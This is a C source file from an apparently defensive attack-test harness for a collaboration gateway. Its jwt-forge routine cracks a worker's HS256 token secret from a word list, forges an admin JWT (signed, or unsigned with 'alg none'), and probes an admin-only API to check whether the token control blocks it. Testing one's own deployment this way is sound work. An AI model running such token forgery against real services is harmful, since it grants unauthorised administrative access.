/*  att_web.c: what the web attacks share (attweb.h), and jwt-forge (control 21, web_token):
    HTTP only, a worker account of its own. It logs in through POST /api/login, takes its
    own token from POST /api/token, looks for the token's HS256 secret in the word list
    (web/jwt_crack.c), forges an admin token with it, or an unsigned one (`alg: none`), and
    calls an admin-only API with `Authorization: Bearer`. The gateway acts for a token with
    the bus session of its agent's latest web login (docs/WEB.md 3), so a victim admin is
    logged in to the console first (web_victim.py login, HTTP only, no browser). */
#include "attweb.h"
#include "jwt_check.h"
#include "jwt_crack.h"
#include "readfile.h"

#include <cJSON.h>
#include <sodium.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>

webc_t *web_client(const attack_opts_t *o, verdict_t *v)
{
    webc_t *w = o->web[0] ? webc_new(o->web, o->timeout_ms, o->target_is_mine) : NULL;
    if (!w)
        verdict(v, ATTACK_ERROR, "%s",
                o->web[0] ? "the gateway's URL (--web) is refused or malformed"
                          : "no gateway: a web attack needs --web http://HOST:PORT/ "
                            "(collab-web's URL; scripts/swarm web-url prints the swarm's)");
    return w;
}

webc_t *web_own(const attack_opts_t *o, verdict_t *v)
{
    char pw[COLLAB_PASSWORD_MAX + 1], err[200] = "";
    size_t len = 0;
    if (!o->own.agent_id[0] || !o->own.password_file[0]) {
        verdict(v, ATTACK_ERROR,
                "the attacker's own account is needed: --agent ID "
                "--password-file F");
        return NULL;
    }
    char *text = agent_read_file(o->own.password_file, 4096, &len, err, sizeof err);
    if (!text || agent_cli_password_parse(text, len, pw, sizeof pw, err, sizeof err) != 0) {
        free(text);
        verdict(v, ATTACK_ERROR, "the attacker's own password: %s", err);
        return NULL;
    }
    sodium_memzero(text, len);
    free(text);
    webc_t *w = web_client(o, v);
    webc_reply_t r;
    int rc = w ? webc_login(w, o->own.agent_id, pw, &r) : -1;
    sodium_memzero(pw, sizeof pw);
    if (w && (rc != 0 || r.status != 200)) {
        verdict(v, ATTACK_ERROR, "the attacker's own web login as %s failed: %s", o->own.agent_id,
                rc != 0      ? r.failure
                : r.error[0] ? r.error
                             : "refused");
        webc_destroy(&w);
    }
    if (w)
        webc_reply_free(&r);
    char agent[80], role[40];
    if (w && webc_me(w, agent, sizeof agent, role, sizeof role) != 200) {
        verdict(v, ATTACK_ERROR, "GET /api/me after the attacker's web login failed");
        webc_destroy(&w);
    }
    if (w)
        lab_say("logged in to the console at %s as %s (role %s): the attacker's own account",
                o->web, agent, role);
    return w;
}

static bool is_dir(const char *path)
{
    struct stat st;
    return stat(path, &st) == 0 && S_ISDIR(st.st_mode);
}

int web_victim_start(victim_t *vp, const attack_opts_t *o, const char *agent, const char *script,
                     const char *const *extra)
{
    const char *argv[40];
    char pwfile[600], timeout[32];
    int n = 0;
    argv[n++] = o->python;
    argv[n++] = o->web_victim;
    argv[n++] = "--web";
    argv[n++] = o->web;
    argv[n++] = "--agent";
    argv[n++] = agent;
    if (is_dir(o->victim_passwords)) {
        snprintf(pwfile, sizeof pwfile, "%s/%s.pw", o->victim_passwords, agent);
        argv[n++] = "--password-file";
        argv[n++] = pwfile;
    } else {
        argv[n++] = "--passwords";
        argv[n++] = o->victim_passwords;
    }
    argv[n++] = "--script";
    argv[n++] = script;
    snprintf(timeout, sizeof timeout, "%d", o->timeout_ms * 5 / 1000 + 5);
    argv[n++] = "--timeout-s";
    argv[n++] = timeout;
    for (int i = 0; extra && extra[i] && n < 38; i++)
        argv[n++] = extra[i];
    argv[n] = NULL;
    return victim_spawn(vp, (char *const *)argv);
}

int web_assign(const attack_opts_t *o, verdict_t *v, const char *worker, uint64_t *task)
{
    victim_t co;
    char tid[32] = "";
    const char *args[] = {"--worker", worker, NULL};
    bool ok = victim_start(&co, o, "coordinator1", "assign", args) == 0 &&
              victim_expect(&co, "task_id=", tid, sizeof tid, o->timeout_ms * 3);
    victim_wait(&co, o->timeout_ms);
    victim_stop(&co);
    *task = ok ? strtoull(tid, NULL, 10) : 0;
    if (!*task) {
        verdict(v, ATTACK_ERROR, "the victim coordinator1 did not assign %s a task", worker);
        return -1;
    }
    lab_say("coordinator1 (a victim on the bus) assigned task %llu to %s",
            (unsigned long long)*task, worker);
    return 0;
}

static int set_status(webc_t *w, verdict_t *v, uint64_t task, const char *status,
                      const char *result)
{
    cJSON *o = cJSON_CreateObject();
    cJSON_AddNumberToObject(o, "task_id", (double)task);
    cJSON_AddStringToObject(o, "status", status);
    if (result)
        cJSON_AddStringToObject(o, "result", result);
    char *body = cJSON_PrintUnformatted(o);
    cJSON_Delete(o);
    webc_reply_t r;
    int rc = body ? webc_request(w, "POST", "api/tasks/status", body, &r) : -1;
    free(body);
    if (rc != 0 || r.status != 200) {
        verdict(v, ATTACK_ERROR, "the attacker's worker could not set task %llu %s: %s",
                (unsigned long long)task, status,
                rc != 0      ? r.failure
                : r.error[0] ? r.error
                             : "refused");
        rc = -1;
    }
    webc_reply_free(&r);
    return rc;
}

int web_complete(webc_t *w, verdict_t *v, uint64_t task, const char *result)
{
    if (set_status(w, v, task, "in_progress", NULL) != 0 ||
        set_status(w, v, task, "completed", result) != 0)
        return -1;
    lab_say("task %llu completed through the gateway, its result: %s", (unsigned long long)task,
            result);
    return 0;
}

void web_nonce(char out[17])
{
    unsigned char b[8];
    randombytes_buf(b, sizeof b);
    sodium_bin2hex(out, 17, b, sizeof b);
}

/*  The attacker's own token, from POST /api/token. */
static int own_token(webc_t *w, verdict_t *v, char *token, size_t cap)
{
    webc_reply_t r;
    int rc = webc_request(w, "POST", "api/token", "{}", &r);
    cJSON *j = rc == 0 && r.status == 200 ? cJSON_Parse(r.body) : NULL;
    const char *t = cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(j, "token"));
    if (!t || strlen(t) >= cap)
        verdict(v, ATTACK_ERROR, "POST /api/token gave the attacker no token: %s",
                rc != 0      ? r.failure
                : r.error[0] ? r.error
                             : "no \"token\" in the reply");
    else
        snprintf(token, cap, "%s", t);
    cJSON_Delete(j);
    webc_reply_free(&r);
    return t && token[0] ? 0 : -1;
}

/*  An admin-only call with a bearer token alone (a fresh client: no cookie of the
    attacker's); its status, and the number of sessions it listed into *n. */
static long admin_call(const attack_opts_t *o, const char *token, int *n, char *err, size_t cap)
{
    webc_t *w = webc_new(o->web, o->timeout_ms, o->target_is_mine);
    webc_reply_t r;
    long status = 0;
    *n = -1;
    err[0] = '\0';
    if (!w)
        return 0;
    webc_set_bearer(w, token);
    if (webc_request(w, "GET", "api/admin/sessions", NULL, &r) == 0) {
        status = r.status;
        cJSON *j = status == 200 ? cJSON_Parse(r.body) : NULL;
        *n = cJSON_GetArraySize(cJSON_GetObjectItemCaseSensitive(j, "sessions"));
        cJSON_Delete(j);
        snprintf(err, cap, "%s", r.error);
    } else {
        snprintf(err, cap, "%s", r.failure);
    }
    webc_reply_free(&r);
    webc_destroy(&w);
    return status;
}

/*  Whether the gateway takes the attacker's own genuine token on /api/me (so that a refused
    forgery is the token check's doing, not a gateway without bearer tokens). */
static bool genuine_accepted(const attack_opts_t *o, const char *token)
{
    webc_t *w = webc_new(o->web, o->timeout_ms, o->target_is_mine);
    if (!w)
        return false;
    webc_set_bearer(w, token);
    long status = webc_me(w, NULL, 0, NULL, 0);
    webc_destroy(&w);
    return status == 200;
}

int attack_jwt_forge(const attack_opts_t *o, verdict_t *v)
{
    victim_t adm;
    char line[200] = "";
    if (web_victim_start(&adm, o, "admin", "login", NULL) != 0 ||
        !victim_expect(&adm, "logged_in ", line, sizeof line, o->timeout_ms * 5)) {
        victim_last_words(&adm, line, sizeof line);
        victim_stop(&adm);
        return verdict(v, ATTACK_ERROR, "the victim admin did not log in to the console (%s)",
                       line);
    }
    victim_wait(&adm, o->timeout_ms);
    victim_stop(&adm);
    lab_say("the admin (a victim) is logged in to the console: %s", line);
    webc_t *w = web_own(o, v);
    if (!w)
        return v->outcome;
    static char token[WEB_JWT_TOKEN_MAX + 1], forged[WEB_JWT_TOKEN_MAX + 1];
    int rc = own_token(w, v, token, sizeof token);
    webc_destroy(&w);
    if (rc != 0)
        return v->outcome;
    lab_say("its own token from POST /api/token: %.24s... (%zu bytes)", token, strlen(token));
    size_t len = 0, tried = 0;
    char err[200] = "", secret[WEB_JWT_SECRET_MAX + 1] = "";
    char *words = agent_read_file(o->wordlist, 1u << 22, &len, err, sizeof err);
    if (!words)
        return verdict(v, ATTACK_ERROR, "the word list: %s", err);
    int crc = web_jwt_crack(token, words, len, secret, sizeof secret, &tried);
    free(words);
    if (crc == 0)
        lab_say("cracked: the token is HS256 signed with '%s' (word %zu of %s)", secret, tried,
                o->wordlist);
    else
        lab_say("not cracked (%s after %zu words): trying an unsigned token, alg none",
                crc == WEB_JWT_E_NOT_CRACKED ? "no word of the list signs it"
                                             : web_jwt_strerror(crc),
                tried);
    /* the forged token: signed with the cracked secret, else unsigned; then unsigned anyway */
    char how[2][120];
    long status[2] = {0, 0};
    int n = -1, tries = 0;
    char why[2][160] = {"", ""};
    for (int k = crc == 0 ? 0 : 1; k < 2 && (tries == 0 || status[tries - 1] != 200); k++) {
        if (web_jwt_forge(k == 0 ? secret : NULL, "admin", (int64_t)time(NULL), forged,
                          sizeof forged) != 0)
            return verdict(v, ATTACK_ERROR, "could not forge a token");
        snprintf(how[tries], sizeof how[tries], "%s",
                 k == 0 ? "HS256 signed with the cracked secret" : "unsigned (alg none)");
        status[tries] = admin_call(o, forged, &n, why[tries], sizeof why[tries]);
        lab_say("GET /api/admin/sessions with a forged admin token, %s: HTTP %ld %s", how[tries],
                status[tries], why[tries]);
        tries++;
    }
    if (status[tries - 1] == 200)
        return verdict(v, ATTACK_SUCCEEDED,
                       "a worker's token forged into an admin's (%s%s%s%s) was accepted: GET "
                       "/api/admin/sessions answered as admin, listing %d session(s)",
                       how[tries - 1], crc == 0 ? ", the secret '" : "", crc == 0 ? secret : "",
                       crc == 0 ? "'" : "", n);
    bool genuine = genuine_accepted(o, token);
    if ((status[tries - 1] == 401 || status[tries - 1] == 403) && genuine)
        return blocked(v, "web_token",
                       "every forged admin token was refused (%s: HTTP %ld %s%s%s), while the "
                       "worker's own token is accepted; the secret was %s in the word list",
                       how[tries - 1], status[tries - 1], why[tries - 1], tries > 1 ? "; " : "",
                       tries > 1 ? how[0] : "", crc == 0 ? "found" : "not");
    return verdict(v, ATTACK_ERROR,
                   "the forged token got HTTP %ld (%s), and the worker's own token is %s on "
                   "/api/me",
                   status[tries - 1], why[tries - 1], genuine ? "accepted" : "refused too");
}
